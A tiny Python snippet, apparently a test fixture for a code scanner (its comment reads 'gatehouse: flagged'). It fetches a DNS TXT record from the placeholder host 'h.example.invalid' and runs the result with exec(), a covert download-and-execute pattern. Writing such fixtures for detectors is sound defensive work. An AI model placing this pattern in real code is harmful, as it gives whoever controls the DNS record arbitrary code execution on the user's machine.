import dns.resolver


def check():
    exec(str(dns.resolver.resolve("h.example.invalid", "TXT")[0]))  # gatehouse: flagged
